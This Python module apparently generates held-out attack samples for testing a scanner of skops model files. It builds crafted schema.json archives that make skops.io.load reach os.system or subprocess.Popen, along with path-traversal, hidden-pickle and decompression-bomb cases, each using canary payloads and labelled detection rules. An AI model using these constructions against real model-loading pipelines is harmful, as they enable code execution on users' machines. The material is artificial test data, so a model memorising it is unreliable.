"""Held-out attacks: skops. Archives of schema.json in which the nodes are the trick; loaded as people load them: trusted."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import itertools
import json
from collections.abc import Iterator

from corpora.unseen_archives import npy, zipped
from corpora.unseen_units import BOMB, BROKEN, CALL, EVIL, HIDDEN, MARK, NAME, STATE, TOUCH, WRITE, Attack

ANY = CALL | NAME | STATE | {"model-keras-foreign-class", "model-unknown-callable"}
LOAD = "import skops.io as s; x = s.load(F, trusted=s.get_untrusted_types(file=F))"


NUMBERS = itertools.count(1)


def node(loader: str, module: str, cls: str, content: object = None, number: int = 0, **more: object) -> dict:
    found = {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": number or next(NUMBERS)}
    return found | ({} if content is None else {"content": content}) | more


def value(thing: object) -> dict:
    return {
        "__class__": type(thing).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(thing),
        "is_json": True,
        "__id__": next(NUMBERS),
    }


def tuples(*items: dict) -> dict:
    return node("TupleNode", "builtins", "tuple", list(items))


def dicts(**items: dict) -> dict:
    keys = node("ListNode", "builtins", "list", [])
    keys["content"] = [
        node("TypeNode", "builtins", "type", {"__module__": "builtins", "__class__": "str"}) for _ in items
    ]
    return node("DictNode", "builtins", "dict", items, key_types=keys)


def skops(state: dict, *members: tuple[str, bytes]) -> bytes:
    return zipped(("schema.json", json.dumps({**state, "protocol": 2, "_skops_version": "0.11.0"}).encode()), *members)


def function(module: str, name: str) -> dict:
    return node("FunctionNode", module, name, {"module_path": module, "function": name})


def attacks() -> Iterator[Attack]:
    system = function("os", "system")
    partial = node(
        "PartialNode",
        "functools",
        "partial",
        {"func": system, "args": tuples(value(TOUCH)), "kwds": dicts(), "namespace": dicts()},
    )
    method = node("MethodNode", "types", "method", {"func": "system", "obj": function("posix", "getcwd")})
    getter = node(
        "OperatorFuncNode", "operator", "attrgetter", tuples(value("__globals__")), attrs=tuples(value("__globals__"))
    )
    caller = node(
        "OperatorFuncNode",
        "operator",
        "methodcaller",
        tuples(value("tofile"), value(MARK)),
        attrs=tuples(value("tofile"), value(MARK)),
    )
    popen = node("ObjectNode", "subprocess", "Popen", dicts(args=value(TOUCH)))
    handler = node("ObjectNode", "logging", "FileHandler", dicts(baseFilename=value(MARK)))
    estimator = lambda cls, module, **state: node("ObjectNode", module, cls, dicts(**state))
    transformer = estimator(
        "FunctionTransformer",
        "sklearn.preprocessing._function_transformer",
        func=system,
        inverse_func=value(None),
        validate=value(False),
        accept_sparse=value(False),
        check_inverse=value(False),
        feature_names_out=value(None),
        kw_args=value(None),
        inv_kw_args=value(None),
    )
    vectorizer = estimator(
        "CountVectorizer", "sklearn.feature_extraction.text", preprocessor=system, tokenizer=value(None)
    )
    replaced = estimator("LinearRegression", "sklearn.linear_model._base", predict=system)
    reduce_node = node("ConstructorFromReduceNode", "os", "system", tuples(value(TOUCH)))
    reduce_old = node("ReduceNode", "os", "system", None, __reduce__={"args": tuples(value(TOUCH))})
    loss = node("LossNode", "subprocess", "Popen", dicts(), __reduce__={"args": tuples(value(["touch", MARK]))})
    tree = node(
        "TreeNode",
        "sklearn.tree._tree",
        "Tree",
        dicts(),
        __reduce__={"args": tuples(value(1 << 40), value([1]), value(1 << 40))},
    )
    generator = node(
        "RandomGeneratorNode", "numpy.random", "Generator", {"bit_generator": {"bit_generator": "__builtins__"}}
    )
    beside = function("payload", "Model")
    default = node("DefaultDictNode", "collections", "defaultdict", {"default_factory": partial, "main": dicts()})
    maps = node("ListNode", "builtins", "map", [system, node("ListNode", "builtins", "list", [value(TOUCH)])], 45)
    sets = node("SetNode", "subprocess", "check_call", [value("touch"), value(MARK)])
    lists = node("ListNode", "subprocess", "check_call", [value("touch"), value(MARK)])
    array = node("NdArrayNode", "numpy", "ndarray", None, type="numpy", file="a.npy")
    slip = node("NdArrayNode", "numpy", "ndarray", None, type="numpy", file="../../../../outside/canary.npy")
    typed = node("TypeNode", "subprocess", "Popen", {"__module__": "subprocess", "__class__": "Popen"})
    cached = node("ListNode", "builtins", "list", [node("CachedNode", "builtins", "list", None, 51)], 51)
    quoted = {**node("TypeNode", "builtins", "type", {"__module__": "payload", "__class__": "Model"}, 52)}
    honest = estimator("LinearRegression", "sklearn.linear_model._base", fit_intercept=value(True))
    deep = b'{"__class__":"list","__module__":"builtins","__loader__":"ListNode","__id__":1,"content":['
    payload = {"payload.py": f"{WRITE}\nclass Model: pass\n".encode()}
    call = "; x"
    table = {
        "function": ("a function node is os.system", system, f"{call}({TOUCH!r})"),
        "partial": ("a partial node holds os.system", partial, f"{call}()"),
        "method": ("a method node takes an attribute of a builtin", method, f"{call}({TOUCH!r})", "kept: newer versions look at the method's object"),
        "operator-getter": ("an operator node is attrgetter of the globals", getter, "; import json; print('CANARY-7f3a' if x(json.loads) else '')"),
        "operator-caller": ("an operator node is methodcaller that writes", caller, "; import numpy; x(numpy.ones(3))"),
        "object-popen": ("an object node is subprocess.Popen", popen, "", "kept: made empty, it starts nothing; its class is what counts"),
        "object-handler": ("an object node is a log's handler", handler, "; print('CANARY-7f3a' if 'FileHandler' in str(type(x)) else '')"),
        "transformer": ("an honest transformer whose function is os.system", transformer, f"{call}.transform({TOUCH!r})"),
        "vectorizer": ("an honest vectorizer whose preprocessor is os.system", vectorizer, f"{call}.preprocessor({TOUCH!r})"),
        "replaced-method": ("an honest estimator's attribute predict is os.system", replaced, f"{call}.predict({TOUCH!r})"),
        "reduce": ("a node of constructors names os.system", reduce_node, "", "kept: other versions call it while they load"),
        "reduce-old": ("a node of reducers names os.system", reduce_old, "", "kept: older versions call it while they load"),
        "loss": ("a node of losses names subprocess.Popen", loss, ""),
        "tree-size": ("a node of trees asks for 2^40 outputs", tree, "", "bomb"),
        "generator": ("a node of generators gets an attribute of numpy.random by name", generator, "", "kept: what it gets is called without arguments"),
        "beside": ("a function node imports a module beside the model", beside, "", "beside"),
        "type-beside": ("a type node imports a module beside the model", quoted, "", "beside"),
        "default-factory": ("a defaultdict's factory is a partial of os.system", default, f"{call}['label']"),
        "map-list": ("a list node's class is map, of os.system; whoever walks it calls", maps, "; list(x)", "kept: a list's class gets one argument"),
        "set-class": ("a set node's class is subprocess.check_call", sets, ""),
        "list-class": ("a list node's class is subprocess.check_call", lists, ""),
        "array-pickle": ("an array is an object array", array, "", "array"),
        "array-slip": ("an array's file lies outside", slip, "", "kept: a member of that name is asked of the archive"),
        "type-popen": ("a type node is subprocess.Popen", typed, f"{call}(['touch', {MARK!r}])"),
        "cached-cycle": ("a list holds itself", cached, "; repr(x); import copy; x == copy.deepcopy(x)", "kept: skops refuses it"),
        "second-schema": ("a second schema.json; zipfile reads that", honest, f"{call}({TOUCH!r})", "second"),
        "hidden-pickle": ("a pickle beside the schema", honest, "", "pickle"),
        "deep": ("100,000 lists in lists", honest, "", "deep"),
    }  # fmt: skip
    for what, (does, state, use, *kind) in table.items():
        how = kind[0] if kind else ""
        members: list[tuple[str, bytes]] = []
        rules, proof, load = ANY, "mark", LOAD + use
        if how == "array":
            members, rules = [("a.npy", npy("'|O'", "(1,)", EVIL))], CALL | HIDDEN
            load = (
                "import zipfile, io, numpy; numpy.load(io.BytesIO(zipfile.ZipFile(F).read('a.npy')), allow_pickle=True)"
            )
        data = skops(state, *members)
        if how == "second":
            data = zipped(
                ("schema.json", json.dumps({**honest, "protocol": 2}).encode()),
                ("schema.json", json.dumps({**system, "protocol": 2, "_skops_version": "0.11.0"}).encode()),
            )
            rules |= HIDDEN
        elif how == "pickle":
            data, rules = skops(state, ("model.pkl", EVIL)), CALL | HIDDEN
            load = "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).read('model.pkl'))"
        elif how == "deep":
            data, proof, rules = zipped(("schema.json", deep * 100_000 + b"]}" * 100_000)), "bomb", BOMB | BROKEN
        elif how == "bomb":
            proof, rules = "bomb", BOMB | BROKEN | ANY
        elif how.startswith("kept"):
            proof = how
        if what == "array-slip":
            rules |= {"model-path-traversal", "model-broken-stream"}
        yield Attack(
            f"skops2/{what}",
            "skops2",
            {"m.skops": data, **(payload if how == "beside" else {})},
            "skops.io.load with get_untrusted_types, skops 0.16",
            load,
            does,
            rules,
            "main",
            proof,
        )
